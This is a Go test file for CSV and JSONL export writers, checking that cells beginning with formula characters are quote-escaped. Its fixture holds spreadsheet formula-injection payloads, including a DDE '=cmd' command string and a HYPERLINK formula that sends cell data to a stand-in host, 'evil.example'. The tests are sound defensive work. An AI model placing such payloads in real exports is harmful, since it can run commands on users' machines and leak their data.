package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// hostile is a row whose every text cell a spreadsheet would run as a
// formula, or hide behind a tab or carriage return.
func hostile() *Row {
	return &Row{
		Key: "+1 555 0100", Campaign: "=cmd|' /C calc'!A0", Account: "@alice", State: "-accepted", Variant: "\tshort",
		NoteLength: 42, Fallback: "\r=1+1", Invited: time.Date(2026, 11, 2, 9, 0, 0, 999e6, time.FixedZone("CET", 3600)),
		Reason: "=2+3",
		Fields: []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "Acme, Inc. \"quoted\"", "-2", ""},
	}
}

var hostileFields = []string{"first_name", "company", "state", "@topic"}

// TestCSVEscapesFormulas writes hostile values to a file, opens it with
// encoding/csv and checks that every column is where it belongs and every
// dangerous cell reads back with its single quote, nothing else changed.
func TestCSVEscapesFormulas(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := NewCSV(f, hostileFields)
	safe := &Row{Key: "https://example.com/in/ann", Campaign: "spring", Account: "alice", State: "queued", NoteLength: -1, Fields: []string{"Ann"}}
	for _, r := range []*Row{hostile(), safe} {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v\n%s", err, data)
	}
	want := [][]string{
		{"key", "campaign", "account", "state", "variant", "note_length", "fallback", "invited_at", "answered_at", "messaged_at", "reason", "first_name", "company", "field_state", "'@topic"},
		{"'+1 555 0100", "'=cmd|' /C calc'!A0", "'@alice", "'-accepted", "'\tshort", "42", "'\r=1+1", "2026-11-02T08:00:00Z", "", "", "'=2+3",
			`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "Acme, Inc. \"quoted\"", "'-2", ""},
		{"https://example.com/in/ann", "spring", "alice", "queued", "", "", "", "", "", "", "", "Ann", "", "", ""},
	}
	if !bytes.Contains(data, []byte("\"'\r=1+1\"")) {
		t.Errorf("the carriage return cell is not written quoted with its quote:\n%q", data)
	}
	if len(recs) != len(want) {
		t.Fatalf("read %d records, want %d:\n%q", len(recs), len(want), recs)
	}
	for i := range want {
		if !slices.Equal(recs[i], want[i]) {
			t.Errorf("record %d:\n got  %q\n want %q", i, recs[i], want[i])
		}
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && dangerous(cell[0]) {
				t.Errorf("cell %q begins with a formula character", cell)
			}
		}
	}
}

// TestCSVHeaderOnly: no rows still make a header (a spreadsheet shows the
// columns).
func TestCSVHeaderOnly(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf, nil)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "key,campaign,account,state,variant,note_length,fallback,invited_at,answered_at,messaged_at,reason\n" {
		t.Errorf("header: %q", got)
	}
}

// TestJSONLIsNotEscaped: JSONL carries the values as they are (no quote
// prefix), null for what is not known, the fields in an object.
func TestJSONLIsNotEscaped(t *testing.T) {
	var buf bytes.Buffer
	w := NewJSONL(&buf, hostileFields)
	h := hostile()
	if err := w.Write(h); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(&Row{Key: "k", Campaign: "c", State: "queued", NoteLength: -1}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines:\n%s", len(lines), buf.String())
	}
	type row struct {
		Key, Campaign, Account, State, Variant, Fallback, Reason string
		NoteLength                                               *int              `json:"note_length"`
		InvitedAt                                                *string           `json:"invited_at"`
		AnsweredAt                                               *string           `json:"answered_at"`
		MessagedAt                                               *string           `json:"messaged_at"`
		Fields                                                   map[string]string `json:"fields"`
	}
	var got [2]row
	for i, l := range lines {
		dec := json.NewDecoder(strings.NewReader(l))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&got[i]); err != nil {
			t.Fatalf("line %d: %v\n%s", i+1, err, l)
		}
	}
	g := got[0]
	if g.Key != h.Key || g.Campaign != h.Campaign || g.Account != h.Account || g.State != h.State || g.Variant != h.Variant ||
		g.Fallback != h.Fallback || g.Reason != h.Reason || g.NoteLength == nil || *g.NoteLength != 42 ||
		g.InvitedAt == nil || *g.InvitedAt != "2026-11-02T08:00:00Z" || g.AnsweredAt != nil || g.MessagedAt != nil {
		t.Errorf("line 1: %+v", g)
	}
	wantFields := map[string]string{"first_name": h.Fields[0], "company": h.Fields[1], "state": "-2"}
	if len(g.Fields) != len(wantFields) {
		t.Errorf("fields %q, want %q", g.Fields, wantFields)
	}
	for k, v := range wantFields {
		if g.Fields[k] != v {
			t.Errorf("field %s = %q, want %q", k, g.Fields[k], v)
		}
	}
	if g := got[1]; g.NoteLength != nil || g.InvitedAt != nil || g.Fields == nil || len(g.Fields) != 0 {
		t.Errorf("line 2: %+v", g)
	}
}

func TestNewWriter(t *testing.T) {
	for _, f := range Formats {
		if _, err := NewWriter(f, &bytes.Buffer{}, nil); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	if _, err := NewWriter("xlsx", &bytes.Buffer{}, nil); err == nil || err.Error() != `unknown format "xlsx" (formats: csv, jsonl)` {
		t.Errorf("xlsx: %v", err)
	}
}

// FuzzCSVRoundTrip: whatever a key or a field holds, the export reads
// back with encoding/csv as the same number of columns, each cell the
// value with its quote prefix when it needs one, and no cell beginning
// with a formula character.
func FuzzCSVRoundTrip(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+1 555", "-x", "@a", "\tx", "\rx", "a,b", `"q"`, "line\nbreak", "\r\n=1", " =1", "\xff\xfe", "'=1"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, key, field string) {
		var buf bytes.Buffer
		w := NewCSV(&buf, []string{"f"})
		if err := w.Write(&Row{Key: key, Campaign: "c", State: "queued", NoteLength: -1, Fields: []string{field}}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("encoding/csv: %v\n%q", err, buf.String())
		}
		if len(recs) != 2 || len(recs[1]) != len(Columns)+1 {
			t.Fatalf("records %q", recs)
		}
		// encoding/csv reads \r\n in a quoted cell as \n, and drops a \r
		// before the line's end.
		norm := func(s string) string { return strings.ReplaceAll(Escape(s), "\r\n", "\n") }
		for _, c := range []struct{ got, want string }{{recs[1][0], norm(key)}, {recs[1][len(Columns)], norm(field)}} {
			if c.got != c.want && !(strings.HasSuffix(c.want, "\r") && c.got == strings.TrimSuffix(c.want, "\r")) {
				t.Errorf("cell %q, want %q", c.got, c.want)
			}
			if c.got != "" && dangerous(c.got[0]) {
				t.Errorf("cell %q begins with a formula character", c.got)
			}
		}
	})
}

// FuzzJSONString: the JSONL writer's strings are byte for byte what
// encoding/json writes.
func FuzzJSONString(f *testing.F) {
	for _, s := range []string{"", "a\"b\\c", "\x00\x1f\b\f\n\r\t", "\u2028\u2029", "\xff", "é€😀", "<&>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		enc := json.NewEncoder(&buf)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(s); err != nil {
			t.Fatal(err)
		}
		want := strings.TrimSuffix(buf.String(), "\n")
		if got := string(appendJSONString(nil, s)); got != want {
			t.Errorf("appendJSONString(%q) = %s, want %s", s, got, want)
		}
	})
}
